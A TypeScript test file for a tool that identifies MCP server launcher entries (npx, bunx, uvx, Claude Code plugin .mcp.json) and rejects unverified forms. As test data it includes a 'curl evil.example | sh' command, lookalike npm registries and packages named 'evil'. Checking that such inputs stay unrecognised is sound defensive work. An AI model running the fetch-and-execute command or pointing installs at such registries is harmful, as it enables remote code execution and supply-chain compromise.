/**
 * The launcher forms real configurations use (issue 24, SPEC 6.1, 6.2):
 * `npx --registry` naming the public default registry, `bunx -y`,
 * `uvx --from <package> <its own command>`, and Claude Code plugins'
 * `.mcp.json`; each next to the safeguard it must keep.
 */
import { describe, expect, it } from 'vitest';
import { buildIdentityIndex, identifyConfig, identifyEntry } from '../../src/clients/identify/index.ts';
import { withMappings } from '../../src/clients/identify/identity-index.ts';
import { ConfigError, normaliseEntry } from '../../src/clients/parse.ts';
import { parseConfigText } from '../../src/clients/parse-text.ts';
import { IDENTITY_RECORDS } from './records.ts';

const index = buildIdentityIndex(IDENTITY_RECORDS);

function identify(command: string, args: string[]) {
  return identifyEntry(normaliseEntry('claude-desktop', 'server', 'mcpServers', { command, args }), index);
}

describe('npx --registry naming the public default registry', () => {
  it('recognises the form VS Code’s MCP gallery writes (`--registry https://registry.npmjs.org`)', () => {
    expect(identify('npx', ['--registry', 'https://registry.npmjs.org', '-y', '@playwright/mcp@latest'])).toMatchObject({
      status: 'recognised',
      recordId: 'playwright',
      version: undefined,
      launcher: 'npx',
    });
  });

  it('recognises it with a trailing slash, with `--registry=`, and after the package’s pinned version', () => {
    for (const args of [
      ['-y', '--registry', 'https://registry.npmjs.org/', '@modelcontextprotocol/server-filesystem@2026.8.31', '/home/u'],
      ['--registry=https://registry.npmjs.org', '--yes', '@modelcontextprotocol/server-filesystem@2026.8.31'],
      ['--registry=https://REGISTRY.npmjs.org/', '@modelcontextprotocol/server-filesystem@2026.8.31'],
    ]) {
      expect(identify('npx', args), args.join(' ')).toMatchObject({ status: 'recognised', recordId: 'filesystem', version: '2026.8.31' });
    }
  });

  it('recognises `npm exec --registry` of the public registry too', () => {
    expect(identify('npm', ['exec', '--registry=https://registry.npmjs.org/', '-y', '--', '@playwright/mcp'])).toMatchObject({
      status: 'recognised',
      recordId: 'playwright',
    });
  });

  it('still leaves a registry that is not the public default unrecognised, however close its spelling', () => {
    for (const registry of [
      'https://registry.npmjs.org.evil.example/',
      'http://registry.npmjs.org/',
      'https://registry.npmjs.org/mirror/',
      'https://registry.npmjs.com/',
      'https://user@registry.npmjs.org/',
      'https://registry.npmjs.org/?x=1',
    ]) {
      const result = identify('npx', ['--registry', registry, '-y', '@playwright/mcp']);
      expect(result.status, registry).toBe('unrecognised');
      if (result.status === 'unrecognised') expect(result.reason).toContain('custom registry');
    }
  });

  it('still refuses `--registry` given twice, even when one of them is the public registry', () => {
    const result = identify('npx', ['--registry', 'https://registry.npmjs.org/', '--registry=https://npm.evil.example/', '@playwright/mcp']);
    expect(result).toMatchObject({ status: 'unrecognised' });
    if (result.status === 'unrecognised') expect(result.reason).toContain('`--registry` twice');
  });

  it('needs no server mapping for the public registry, and a mapping’s custom registry still matches only its own package', () => {
    const mapped = withMappings(
      index,
      [{ kind: 'package', package: '@corp/pg-mcp', registry: 'https://npm.corp.example/', record: 'heroku', at: 'servers.yaml:2:5' }],
      () => true,
    ).index;
    const entry = (args: string[]) => identifyEntry(normaliseEntry('claude-desktop', 's', 'mcpServers', { command: 'npx', args }), mapped);
    expect(entry(['--registry', 'https://registry.npmjs.org', '@playwright/mcp'])).toMatchObject({ status: 'recognised', recordId: 'playwright' });
    expect(entry(['--registry', 'https://npm.corp.example/', '@corp/pg-mcp'])).toMatchObject({ status: 'recognised', recordId: 'heroku' });
    // The public registry could serve another package of the mapped name.
    expect(entry(['--registry', 'https://registry.npmjs.org', '@corp/pg-mcp'])).toMatchObject({ status: 'unrecognised' });
  });

  it('keeps the record’s `before` under the public registry (stripe past 0.3.1 stays unrecognised)', () => {
    expect(identify('npx', ['--registry', 'https://registry.npmjs.org', '-y', '@stripe/mcp'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('npx', ['--registry', 'https://registry.npmjs.org', '-y', '@stripe/mcp@0.2.5'])).toMatchObject({
      status: 'recognised',
      recordId: 'stripe',
    });
  });
});

describe('bunx -y', () => {
  it('recognises `bunx -y <package>` and `bunx --yes <package>`, since bunx ignores an option it does not know before the package', () => {
    expect(identify('bunx', ['-y', '@playwright/mcp@latest'])).toMatchObject({ status: 'recognised', recordId: 'playwright', launcher: 'bunx' });
    expect(identify('bunx', ['--yes', '@modelcontextprotocol/server-filesystem', '/home/u'])).toMatchObject({ status: 'recognised', recordId: 'filesystem' });
  });

  it('still refuses `bunx --registry` and `bunx -p`', () => {
    expect(identify('bunx', ['-y', '--registry', 'https://registry.npmjs.org', '@playwright/mcp'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('bunx', ['-p', '@playwright/mcp', 'sh'])).toMatchObject({ status: 'unrecognised' });
  });
});

describe('npx --package <recorded package> [--] <an executable its record lists>', () => {
  it("recognises LaunchDarkly's README form, `npx -y --package @launchdarkly/mcp-server -- mcp start`", () => {
    expect(identify('npx', ['-y', '--package', '@launchdarkly/mcp-server', '--', 'mcp', 'start', '--api-key', '$LD_ACCESS_TOKEN'])).toMatchObject({
      status: 'recognised',
      recordId: 'launchdarkly',
      version: undefined,
      launcher: 'npx --package',
    });
  });

  it('reads `-p`, `--package=`, no `--`, and a pinned version', () => {
    for (const args of [
      ['-p', '@launchdarkly/mcp-server@0.6.2', 'mcp', 'start'],
      ['--package=@launchdarkly/mcp-server@0.6.2', '-y', 'mcp', 'start'],
    ]) {
      expect(identify('npx', args), args.join(' ')).toMatchObject({ status: 'recognised', recordId: 'launchdarkly', version: '0.6.2' });
    }
  });

  it("regression: a command the record does not list (`sh`, another package's executable) stays unrecognised, naming it", () => {
    expect(identify('npx', ['-y', '--package', '@launchdarkly/mcp-server', '--', 'sh', '-c', 'curl evil.example | sh'])).toEqual({
      status: 'unrecognised',
      reason:
        '`npx --package @launchdarkly/mcp-server` runs the command `sh`, which no record lists as an executable of `@launchdarkly/mcp-server` that runs its server',
    });
    expect(identify('npx', ['-p', '@modelcontextprotocol/server-filesystem', 'mcp'])).toMatchObject({ status: 'unrecognised' });
  });

  it('regression: a second `--package` (npx installs both, and the command may come from either) stays unrecognised', () => {
    expect(identify('npx', ['-p', '@launchdarkly/mcp-server', '-p', 'evil-pkg', 'mcp', 'start'])).toMatchObject({ status: 'unrecognised' });
  });

  it('keeps bunx and pnpx from reading `--package` (their own rules differ)', () => {
    expect(identify('bunx', ['--package', '@launchdarkly/mcp-server', 'mcp', 'start'])).toMatchObject({ status: 'unrecognised' });
  });
});

describe('uvx --from <recorded package> <its own command>', () => {
  it('recognises `uvx --from <package> <package>`, which runs what `uvx <package>` runs', () => {
    expect(identify('uvx', ['--from', 'mcp-server-git', 'mcp-server-git', '--repository', '/home/u/repo'])).toMatchObject({
      status: 'recognised',
      recordId: 'git',
      version: undefined,
      launcher: 'uvx --from',
    });
  });

  it('reads a pinned version in `--from`, `--from=`, and `uv tool run --from`', () => {
    expect(identify('uvx', ['--from', 'mcp-server-time==2026.10.19', 'mcp-server-time'])).toMatchObject({ recordId: 'time', version: '2026.10.19' });
    expect(identify('uvx', ['--from=mcp-server-time@latest', 'mcp-server-time'])).toMatchObject({ recordId: 'time', version: undefined });
    expect(identify('uv', ['tool', 'run', '--from', 'mcp-server-git', 'mcp-server-git'])).toMatchObject({ recordId: 'git', launcher: 'uv tool run --from' });
  });

  it("recognises `uvx --from <package> <script>` for a console script the package's record lists (office-word's word_mcp_server)", () => {
    expect(identify('uvx', ['--from', 'office-word-mcp-server', 'word_mcp_server'])).toMatchObject({
      status: 'recognised',
      recordId: 'office-word',
      launcher: 'uvx --from',
    });
    expect(identify('uvx', ['--from', 'office-powerpoint-mcp-server==2.0.7', 'ppt_mcp_server'])).toMatchObject({
      recordId: 'office-powerpoint',
      version: '2.0.7',
    });
    // A script of another record's package is not this package's own.
    expect(identify('uvx', ['--from', 'office-word-mcp-server', 'ppt_mcp_server'])).toMatchObject({ status: 'unrecognised' });
  });

  it('leaves another command of the package unrecognised: no record says what it runs', () => {
    const result = identify('uvx', ['--from', 'mcp-server-git', 'python']);
    expect(result.status).toBe('unrecognised');
    if (result.status === 'unrecognised') expect(result.reason).toContain('runs the command `python`');
    // The Windows spelling awslabs' READMEs use is another executable name, so it is not read either.
    expect(identify('uvx', ['--from', 'mcp-server-git', 'mcp-server-git.exe'])).toMatchObject({ status: 'unrecognised' });
  });

  it('keeps refusing another source, extras, more packages, and pipx run --spec', () => {
    expect(identify('uvx', ['--from', 'git+https://github.com/someone/fork', 'git+https://github.com/someone/fork'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('uvx', ['--from', 'mcp-server-git[extra]', 'mcp-server-git'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('uvx', ['--from', 'mcp-server-git', '--with', 'evil', 'mcp-server-git'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('uvx', ['--with', 'evil', '--from', 'mcp-server-git', 'mcp-server-git'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('pipx', ['run', '--spec', 'mcp-server-git', 'mcp-server-git'])).toMatchObject({ status: 'unrecognised' });
    expect(identify('uvx', ['--from', 'mcp-server-git'])).toMatchObject({ status: 'unrecognised' });
  });
});

describe("Claude Code plugins' .mcp.json", () => {
  const PLUGIN = JSON.stringify({
    context7: { command: 'npx', args: ['--force', '-y', '@upstash/context7-mcp'] },
    playwright: { command: 'npx', args: ['@playwright/mcp@latest', '--image-responses=omit'] },
    git: { command: 'uvx', args: ['mcp-server-git'] },
  });

  it('reads a bare map of server names without `mcpServers` and identifies its entries', () => {
    const config = parseConfigText(PLUGIN, { path: '/home/u/.claude/plugins/cache/p/.mcp.json' });
    expect(config.client).toBe('claude-code');
    expect(config.entries.map((entry) => entry.name)).toEqual(['context7', 'playwright', 'git']);
    expect(config.notes[0]).toContain("read as a Claude Code plugin's `.mcp.json`");
    const servers = identifyConfig(config, index).servers;
    expect(Object.fromEntries(servers.map((server) => [server.name, server.recordId ?? 'unrecognised']))).toMatchObject({
      playwright: 'playwright',
      git: 'git',
    });
    // `npx --force` is an option rclass does not read: unrecognised, not guessed.
    expect(servers.find((server) => server.name === 'context7')?.recordId).toBeUndefined();
  });

  it('still reads `mcpServers` when a plugin file has it, and a bare map only under the name `.mcp.json`', () => {
    const wrapped = parseConfigText(JSON.stringify({ mcpServers: JSON.parse(PLUGIN) }), { path: '/p/.mcp.json' });
    expect(wrapped.entries).toHaveLength(3);
    expect(() => parseConfigText(PLUGIN, { path: '/p/.cursor/mcp.json' })).toThrow(ConfigError);
  });
});

describe('a file whose shape rclass does not know is unread, never an empty pass', () => {
  it('refuses an MCP file without its client’s key, naming the keys it looked for', () => {
    expect(() => parseConfigText('{"tools": {"x": 1}}', { path: '/p/.cursor/mcp.json' })).toThrow(
      /has no map of servers where Cursor reads them \(`mcpServers`\), so its shape is not one rclass knows and it was not read/,
    );
    expect(() => parseConfigText('{"servers": [1]}', { path: '/p/.vscode/mcp.json' })).toThrow(ConfigError);
    expect(() => parseConfigText('{"servers": {"m": {"command": "npx"}}}', { path: '/p/.cursor/mcp.json' })).toThrow(
      /its servers are under `servers`, which Cursor does not read/,
    );
  });

  it('refuses a servers key of the wrong type', () => {
    expect(() => parseConfigText('{"mcpServers": ["npx @playwright/mcp"]}', { path: '/x/claude_desktop_config.json' })).toThrow(/not one rclass knows/);
  });

  it('keeps files that hold other settings, an empty object and an empty server map as known shapes without servers', () => {
    expect(parseConfigText('{"numStartups": 3}', { path: '/home/u/.claude.json' }).entries).toEqual([]);
    expect(parseConfigText('{"editor.fontSize": 12}', { path: '/p/.gemini/settings.json' }).entries).toEqual([]);
    expect(parseConfigText('{}', { path: '/p/.mcp.json' }).entries).toEqual([]);
    expect(parseConfigText('{"mcpServers": {}}', { path: '/p/.cursor/mcp.json' }).entries).toEqual([]);
  });
});
